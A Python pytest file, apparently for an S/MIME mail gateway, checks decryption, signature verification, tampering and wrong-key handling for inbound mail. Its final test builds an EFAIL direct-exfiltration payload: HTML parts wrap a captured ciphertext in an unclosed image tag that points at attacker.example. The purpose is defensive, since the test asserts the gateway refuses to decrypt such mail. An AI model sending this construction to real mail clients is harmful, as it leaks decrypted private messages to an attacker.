"""People outside write to Anna, with openssl as their mail program. She gets what they wrote, and who it was from."""

import pytest

from harness import openssl
from harness.client import send
from harness.mail import CANARY, entity, envelope_header
from harness.site import Site, people

OLGA, ANNA = "olga@out.example", "anna@alpha.example"


def test_encrypted_and_signed_mail_is_delivered_open(alpha: Site) -> None:
    signed = openssl.sign(entity(), people().olga)
    wire = envelope_header(OLGA, ANNA) + openssl.encrypt(signed, [people().anna])
    assert CANARY not in wire

    send(alpha.postfix.mx, OLGA, [ANNA], wire)

    [got] = alpha.inside.wait(1)
    assert CANARY in got.body
    assert got.fields("X-Mailseal-Decrypted") == ["yes"]
    assert got.fields("X-Mailseal-Signed-By-Sender") == ["yes"]
    assert OLGA in got.fields("X-Mailseal-Layer-2-Signer-1")[0]
    assert "RET=HDRS" in got.parameters
    assert CANARY in openssl.verify(got.octets, people().root)


@pytest.mark.parametrize("cipher", ["aes-128-cbc", "aes-256-cbc"])
@pytest.mark.parametrize("reader", ["anna", "bert"])
def test_encrypted_mail(alpha: Site, cipher: str, reader: str) -> None:
    to = f"{reader}@alpha.example"
    wire = envelope_header(OLGA, to) + openssl.encrypt(entity(), [getattr(people(), reader)], cipher=cipher)

    send(alpha.postfix.mx, OLGA, [to], wire)

    [got] = alpha.inside.wait(1)
    assert got.body == entity().partition(b"\r\n\r\n")[2]
    assert "integrity=none" in got.fields("X-Mailseal-Layer-1")[0]
    assert got.fields("X-Mailseal-Signed-By-Sender") == ["no"]


def test_encrypted_mail_whose_integrity_is_guarded(alpha: Site) -> None:
    wire = envelope_header(OLGA, ANNA) + openssl.encrypt(entity(), [people().anna], cipher="aes-256-gcm")

    send(alpha.postfix.mx, OLGA, [ANNA], wire)

    [got] = alpha.inside.wait(1)
    assert CANARY in got.body
    assert "integrity=authenticated" in got.fields("X-Mailseal-Layer-1")[0]


@pytest.mark.parametrize("opaque", [False, True])
def test_signed_mail_says_who_signed(alpha: Site, opaque: bool) -> None:
    wire = envelope_header(OLGA, "carl@alpha.example") + openssl.sign(entity(), people().olga, opaque=opaque)

    send(alpha.postfix.mx, OLGA, ["carl@alpha.example"], wire)

    [got] = alpha.inside.wait(1)
    assert got.fields("X-Mailseal-Signed-By-Sender") == ["yes"]
    assert got.fields("X-Mailseal-Decrypted") == ["no"]


def test_a_good_signature_of_someone_else_is_not_the_senders(alpha: Site) -> None:
    wire = envelope_header(OLGA, ANNA) + openssl.sign(entity(), people().stranger)

    send(alpha.postfix.mx, OLGA, [ANNA], wire)

    [got] = alpha.inside.wait(1)
    assert got.fields("X-Mailseal-Signed-By-Sender") == ["no"]
    assert "matches-from=no" in got.fields("X-Mailseal-Layer-1-Signer-1")[0]


def test_a_changed_mail_is_not_signed(alpha: Site) -> None:
    wire = envelope_header(OLGA, ANNA) + openssl.sign(entity(), people().olga).replace(
        b"For your eyes", b"For my wallet"
    )

    send(alpha.postfix.mx, OLGA, [ANNA], wire)

    [got] = alpha.inside.wait(1)
    assert got.fields("X-Mailseal-Signed-By-Sender") == ["no"]
    assert "verified=no" in got.fields("X-Mailseal-Layer-1-Signer-1")[0]


def test_mail_for_another_key_is_delivered_as_it_came_with_the_reason(alpha: Site) -> None:
    wire = envelope_header(OLGA, ANNA) + openssl.encrypt(entity(), [people().stranger])

    send(alpha.postfix.mx, OLGA, [ANNA], wire)

    [got] = alpha.inside.wait(1)
    assert got.body == wire.partition(b"\r\n\r\n")[2]
    assert got.fields("X-Mailseal-Decrypted") == ["no"]
    assert "key-not-found" in got.fields("X-Mailseal-Layer-1")[0]


def test_a_captured_mail_is_not_opened_for_another_reader(alpha: Site) -> None:
    """Anna's ciphertext sent to Carl: the gateway has her key, but his copy is opened with his keys only."""
    wire = envelope_header(OLGA, "carl@alpha.example") + openssl.encrypt(entity(), [people().anna])

    send(alpha.postfix.mx, OLGA, ["carl@alpha.example", ANNA], wire)

    got = {one.recipients: one for one in alpha.inside.wait(2)}
    assert CANARY not in got["carl@alpha.example",].octets
    assert CANARY in got[ANNA,].octets


def test_ciphertext_beside_other_parts_is_not_opened_in_place(alpha: Site) -> None:
    """EFAIL, direct exfiltration: an attacker wraps a captured ciphertext between parts of their own."""
    inner = openssl.encrypt(entity(), [people().anna])
    wire = (
        envelope_header(OLGA, ANNA)
        + b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="=_e"\r\n\r\n'
        + b"--=_e\r\nContent-Type: text/html\r\n\r\n"
        + b'<img src="http://attacker.example/\r\n--=_e\r\n'
        + inner
        + b'\r\n--=_e\r\nContent-Type: text/html\r\n\r\n">\r\n--=_e--\r\n'
    )

    send(alpha.postfix.mx, OLGA, [ANNA], wire)

    [got] = alpha.inside.wait(1)
    assert CANARY not in got.octets
    assert got.fields("X-Mailseal-Decrypted") == ["no"]
